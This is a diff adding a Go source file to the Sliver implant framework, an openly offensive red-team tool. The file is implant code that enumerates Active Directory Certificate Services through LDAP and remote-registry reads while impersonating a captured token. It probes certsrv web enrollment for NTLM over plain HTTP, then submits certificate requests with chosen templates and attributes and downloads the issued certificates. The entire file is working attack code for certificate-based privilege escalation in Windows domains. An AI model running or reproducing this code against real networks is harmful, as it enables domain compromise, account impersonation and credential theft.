@@ -0,0 +1,266 @@
+package adcs
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"crypto/tls"
+	"errors"
+	"fmt"
+	"io"
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+	"net/http"
+	"runtime"
+	"strings"
+	"time"
+
+	"github.com/bishopfox/sliver/implant/sliver/syscalls"
+	"github.com/bishopfox/sliver/implant/sliver/transports/httpclient/drivers/win/wininet"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+
+	"golang.org/x/sys/windows"
+	"golang.org/x/sys/windows/registry"
+)
+
+const (
+	userAgent = "{{GenerateUserAgent}}"
+
+	certSvcConfiguration = `SYSTEM\CurrentControlSet\Services\CertSvc\Configuration\`
+	defaultPolicyModule  = `\PolicyModules\CertificateAuthority_MicrosoftDefault.Policy`
+)
+
+// Enum - Survey the enrollment services and certificate templates of the domain,
+// and the registry and web enrollment of each CA. Runs as the token if not zero.
+func Enum(server string, token windows.Token) (*sliverpb.AdcsEnum, error) {
+	if token != 0 {
+		// Impersonation only applies to the current thread
+		runtime.LockOSThread()
+		defer runtime.UnlockOSThread()
+		err := syscalls.ImpersonateLoggedOnUser(token)
+		if err != nil {
+			return nil, err
+		}
+		defer windows.RevertToSelf()
+	}
+
+	conn, err := ldapConnect(server)
+	if err != nil {
+		return nil, err
+	}
+	defer conn.close()
+
+	rootDSE, err := conn.search("", syscalls.LDAP_SCOPE_BASE, "(objectClass=*)", []string{"configurationNamingContext", "defaultNamingContext"}, false)
+	if err != nil {
+		return nil, err
+	}
+	if len(rootDSE) == 0 {
+		return nil, errors.New("failed to read the rootDSE")
+	}
+	enum := &sliverpb.AdcsEnum{
+		ConfigurationNC: string(attributeValue(rootDSE[0], "configurationNamingContext")),
+		TokenSIDs:       tokenSIDs(token),
+	}
+	defaultNC := string(attributeValue(rootDSE[0], "defaultNamingContext"))
+	domain, err := conn.search(defaultNC, syscalls.LDAP_SCOPE_BASE, "(objectClass=*)", []string{"objectSid"}, false)
+	if err == nil && 0 < len(domain) {
+		enum.DomainSID = attributeValue(domain[0], "objectSid")
+	}
+
+	publicKeyServices := "CN=Public Key Services,CN=Services," + enum.ConfigurationNC
+	cas, err := conn.search("CN=Enrollment Services,"+publicKeyServices, syscalls.LDAP_SCOPE_ONELEVEL,
+		"(objectClass=pKIEnrollmentService)", caAttributes, false)
+	if err != nil {
+		return nil, err
+	}
+	enum.Templates, err = conn.search("CN=Certificate Templates,"+publicKeyServices, syscalls.LDAP_SCOPE_ONELEVEL,
+		"(objectClass=pKICertificateTemplate)", templateAttributes, true)
+	if err != nil {
+		return nil, err
+	}
+	for _, entry := range cas {
+		enum.CAs = append(enum.CAs, surveyCA(entry))
+	}
+	return enum, nil
+}
+
+// surveyCA - Read the CA's edit flags and security descriptor from its remote
+// registry, and check if web enrollment accepts windows auth
+func surveyCA(entry *sliverpb.LDAPEntry) *sliverpb.AdcsCA {
+	ca := &sliverpb.AdcsCA{Entry: entry, EditFlags: -1}
+	host := string(attributeValue(entry, "dNSHostName"))
+	name := string(attributeValue(entry, "cn"))
+	if host == "" {
+		return ca
+	}
+	if err := readCARegistry(ca, host, name); err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("failed to read registry of %s: %s", host, err)
+		// {{end}}
+		ca.RegistryError = err.Error()
+	}
+	ca.WebEnrollmentURL, ca.WebEnrollment = probeWebEnrollment(host)
+	return ca
+}
+
+func readCARegistry(ca *sliverpb.AdcsCA, host string, name string) error {
+	remote, err := registry.OpenRemoteKey(host, registry.LOCAL_MACHINE)
+	if err != nil {
+		return err
+	}
+	defer remote.Close()
+	policy, err := registry.OpenKey(remote, certSvcConfiguration+name+defaultPolicyModule, registry.QUERY_VALUE)
+	if err != nil {
+		return err
+	}
+	editFlags, _, err := policy.GetIntegerValue("EditFlags")
+	policy.Close()
+	if err != nil {
+		return err
+	}
+	ca.EditFlags = int64(editFlags)
+	config, err := registry.OpenKey(remote, certSvcConfiguration+name, registry.QUERY_VALUE)
+	if err != nil {
+		return err
+	}
+	defer config.Close()
+	ca.Security, _, err = config.GetBinaryValue("Security")
+	return err
+}
+
+// probeWebEnrollment - Find a certsrv endpoint that offers ntlm or negotiate,
+// plain http is checked first since it can't enforce channel binding
+func probeWebEnrollment(host string) (string, bool) {
+	client := &http.Client{
+		Timeout: 10 * time.Second,
+		Transport: &http.Transport{
+			TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
+		},
+		CheckRedirect: func(req *http.Request, via []*http.Request) error {
+			return http.ErrUseLastResponse
+		},
+	}
+	for _, scheme := range []string{"http", "https"} {
+		certsrv := fmt.Sprintf("%s://%s/certsrv/", scheme, host)
+		resp, err := client.Get(certsrv)
+		if err != nil {
+			continue
+		}
+		resp.Body.Close()
+		if acceptsWindowsAuth(resp.StatusCode, resp.Header) {
+			return certsrv, true
+		}
+	}
+	return "", false
+}
+
+// tokenSIDs - The user and enabled groups of the token, or the process token
+func tokenSIDs(token windows.Token) []string {
+	if token == 0 {
+		err := windows.OpenProcessToken(windows.CurrentProcess(), windows.TOKEN_QUERY, &token)
+		if err != nil {
+			return nil
+		}
+		defer token.Close()
+	}
+	sids := []string{}
+	if user, err := token.GetTokenUser(); err == nil {
+		sids = append(sids, user.User.Sid.String())
+	}
+	groups, err := token.GetTokenGroups()
+	if err != nil {
+		return sids
+	}
+	for _, group := range groups.AllGroups() {
+		if group.Attributes&windows.SE_GROUP_ENABLED != 0 && group.Attributes&windows.SE_GROUP_USE_FOR_DENY_ONLY == 0 {
+			sids = append(sids, group.Sid.String())
+		}
+	}
+	return sids
+}
+
+// Request - Submit a CSR to the CA's web enrollment with the current credentials,
+// the certificate is downloaded if the CA issues it right away
+func Request(ca string, template string, csr []byte, attributes string, https bool, token windows.Token) (*sliverpb.AdcsRequest, error) {
+	if token != 0 {
+		runtime.LockOSThread()
+		defer runtime.UnlockOSThread()
+		err := syscalls.ImpersonateLoggedOnUser(token)
+		if err != nil {
+			return nil, err
+		}
+		defer windows.RevertToSelf()
+	}
+
+	// WinINet answers ntlm/negotiate challenges with the thread's credentials
+	client, err := wininet.NewClient(userAgent)
+	if err != nil {
+		return nil, err
+	}
+	client.Timeout = 60 * time.Second
+	client.TLSClientConfig.InsecureSkipVerify = true
+	origin := "http://" + ca
+	if https {
+		origin = "https://" + ca
+	}
+
+	form := requestForm(csr, template, attributes)
+	req, err := http.NewRequest(http.MethodPost, origin+certfnshPath, strings.NewReader(form.Encode()))
+	if err != nil {
+		return nil, err
+	}
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	body, err := do(client, req)
+	if err != nil {
+		return nil, err
+	}
+	requestID, issued, disposition := parseCertfnsh(string(body))
+	result := &sliverpb.AdcsRequest{RequestID: requestID, Disposition: disposition}
+	if !issued {
+		return result, nil
+	}
+
+	req, err = http.NewRequest(http.MethodGet, fmt.Sprintf("%s%s?ReqID=%d&Enc=b64", origin, certnewPath, requestID), nil)
+	if err != nil {
+		return nil, err
+	}
+	result.Certificate, err = do(client, req)
+	if err != nil {
+		return nil, err
+	}
+	if !strings.Contains(string(result.Certificate), "BEGIN CERTIFICATE") {
+		return nil, fmt.Errorf("request %d was issued but the certificate could not be downloaded", requestID)
+	}
+	return result, nil
+}
+
+func do(client *wininet.Client, req *http.Request) ([]byte, error) {
+	resp, err := client.Do(req)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode == http.StatusUnauthorized {
+		return nil, errors.New("web enrollment rejected the current credentials")
+	}
+	if resp.StatusCode != http.StatusOK {
+		return nil, fmt.Errorf("unexpected response from %s (%s)", req.URL.Path, resp.Status)
+	}
+	return io.ReadAll(resp.Body)
+}